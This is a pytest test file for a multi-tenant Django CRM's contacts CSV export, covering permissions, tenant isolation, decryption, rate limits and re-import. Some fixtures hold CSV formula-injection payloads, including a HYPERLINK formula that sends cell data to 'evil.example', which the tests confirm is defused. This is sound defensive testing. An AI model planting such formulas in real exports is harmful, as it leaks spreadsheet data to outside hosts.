"""Exporting contacts as CSV: decrypted for owners and admins only, read from the right
organization although the file is streamed after the request's middleware has finished,
safe to open in a spreadsheet, and importable again."""

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django_tenants.utils import tenant_context

from crm import services
from crm.models import Contact
from iam.models import User
from tenants.models import Tenant
from tests.conftest import host_of, token_client

pytestmark = pytest.mark.django_db

URL = "/api/v1/contacts/export/"


def _rows(response: Any) -> list[list[str]]:
    assert response.streaming
    body = b"".join(response.streaming_content)  # read after the view has returned
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def people(tenant_a: Tenant, tenant_b: Tenant) -> None:
    with tenant_context(tenant_a):
        services.custom_field_create(
            by=None, entity="contact", label="Passport number", type="text", sensitive=True
        )
        services.custom_field_create(by=None, entity="contact", label="VIP", type="boolean")
        engines = services.company_create(by=None, name="Engines")
        services.contact_create(
            by=None,
            first_name="Ada",
            last_name="Lovelace",
            email="ada@engine.test",
            phone="+44 20 7946 0000",
            company=engines,
            birthday=dt.date(1815, 12, 10),
            custom={"passport_number": "GB-1815", "vip": True},
        )
        services.contact_create(by=None, first_name="=HYPERLINK(1)", title="@SUM(A1)")
    with tenant_context(tenant_b):
        services.contact_create(by=None, first_name="Bea", email="bea@beta.test")


def test_owners_get_every_contact_decrypted_in_the_import_columns(
    people: None, tenant_a: Tenant, owner_a: User
) -> None:
    response = token_client(owner_a, tenant_a).get(URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="contacts-alpha-')
    heading, *rows = _rows(response)
    assert heading == [
        "First name",
        "Last name",
        "Email",
        "Phone",
        "Title",
        "Company",
        "Address",
        "Birthday",
        "Passport number",
        "VIP",
    ]
    ada = next(r for r in rows if r[0] == "Ada")
    assert ada == [
        "Ada",
        "Lovelace",
        "ada@engine.test",
        "+44 20 7946 0000",  # a phone number is not treated as a formula
        "",
        "Engines",
        "",
        "1815-12-10",
        "GB-1815",
        "yes",
    ]
    assert len(rows) == 2  # beta's contact is not there
    assert connection.schema_name == "public"  # type: ignore[attr-defined]


def test_cells_that_would_run_as_formulas_are_defused(
    people: None, tenant_a: Tenant, owner_a: User
) -> None:
    _, *rows = _rows(token_client(owner_a, tenant_a).get(URL))
    formula = next(r for r in rows if "HYPERLINK" in r[0])
    assert formula[0] == "'=HYPERLINK(1)"
    assert formula[4] == "'@SUM(A1)"


def test_a_custom_field_label_that_would_run_as_a_formula_is_defused_and_imports_back(
    tenant_a: Tenant, tenant_b: Tenant, owner_a: User, owner_b: User
) -> None:
    """An admin names a field like a formula; another owner's export must not open with it
    live in the heading row, and the file still imports into the field of that label."""
    label = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    for tenant in (tenant_a, tenant_b):
        with tenant_context(tenant):
            services.custom_field_create(
                by=None, entity="contact", label=label, key="link", type="text"
            )
    with tenant_context(tenant_a):
        services.contact_create(by=None, first_name="Ada", custom={"link": "first"})
    response = token_client(owner_a, tenant_a).get(URL)
    exported = b"".join(response.streaming_content)
    heading = next(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert heading[-1] == "'" + label
    assert not [cell for cell in heading if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    upload = SimpleUploadedFile("alpha.csv", exported, "text/csv")
    imported = token_client(owner_b, tenant_b).post("/api/v1/contacts/import/", {"file": upload})
    assert imported.status_code == 201, imported.content
    assert imported.json()["report"]["columns"].get("'" + label) == "custom.link", imported.json()
    with tenant_context(tenant_b):
        assert Contact.objects.get(first_name="Ada").custom == {"link": "first"}


def test_the_export_filters_like_the_list(people: None, tenant_a: Tenant, owner_a: User) -> None:
    _, *rows = _rows(token_client(owner_a, tenant_a).get(URL, {"email": "ADA@engine.test"}))
    assert [r[0] for r in rows] == ["Ada"]


def test_an_export_imports_again_into_another_organization_unchanged(
    people: None, tenant_a: Tenant, tenant_b: Tenant, owner_a: User, owner_b: User
) -> None:
    exported = b"".join(token_client(owner_a, tenant_a).get(URL).streaming_content)
    with tenant_context(tenant_b):
        services.custom_field_create(
            by=None, entity="contact", label="Passport number", type="text", sensitive=True
        )
        services.custom_field_create(by=None, entity="contact", label="VIP", type="boolean")
    upload = SimpleUploadedFile("alpha.csv", exported, "text/csv")
    response = token_client(owner_b, tenant_b).post("/api/v1/contacts/import/", {"file": upload})
    assert response.status_code == 201, response.content
    assert response.json()["contacts_created"] == 2
    with tenant_context(tenant_b):
        ada = Contact.objects.select_related("company").get(first_name="Ada")
        formula = Contact.objects.get(title="@SUM(A1)")
    assert (ada.email, ada.phone, ada.company.name) == (
        "ada@engine.test",
        "+44 20 7946 0000",
        "Engines",
    )
    assert ada.birthday == dt.date(1815, 12, 10)
    assert ada.custom_sealed == {"passport_number": "GB-1815"}
    assert ada.custom == {"vip": True}
    assert formula.first_name == "=HYPERLINK(1)"  # the apostrophe came off again


def test_members_may_not_export(people: None, tenant_a: Tenant, member_a: User) -> None:
    response = token_client(member_a, tenant_a).get(URL)
    assert response.status_code == 403
    assert response["Content-Type"] == "application/problem+json"


def test_a_token_of_one_organization_exports_nothing_of_another(
    people: None, tenant_a: Tenant, tenant_b: Tenant, owner_a: User
) -> None:
    assert token_client(owner_a, tenant_a, host=tenant_b).get(URL).status_code == 401


def test_the_page_export_follows_the_search_and_is_for_admins_only(
    people: None, tenant_a: Tenant, owner_a: User, client_a: Client
) -> None:
    owner = Client(HTTP_HOST=host_of(tenant_a))
    owner.force_login(owner_a)
    assert b'href="/contacts/export/"' in owner.get("/contacts/").content
    _, *rows = _rows(owner.get("/contacts/export/", {"q": "lovelace"}))
    assert [r[1] for r in rows] == ["Lovelace"]
    assert client_a.get("/contacts/export/").status_code == 403  # a member
    assert b"/contacts/export/" not in client_a.get("/contacts/").content


def test_exports_are_limited_per_user(people: None, tenant_a: Tenant, owner_a: User) -> None:
    api = token_client(owner_a, tenant_a)
    for _ in range(30):
        assert api.get(URL).status_code == 200
    assert api.get(URL).status_code == 429
    owner = Client(HTTP_HOST=host_of(tenant_a))
    owner.force_login(owner_a)
    for _ in range(30):
        assert owner.get("/contacts/export/").status_code == 200
    limited = owner.get("/contacts/export/", follow=True)
    assert b"many files in the last hour" in limited.content
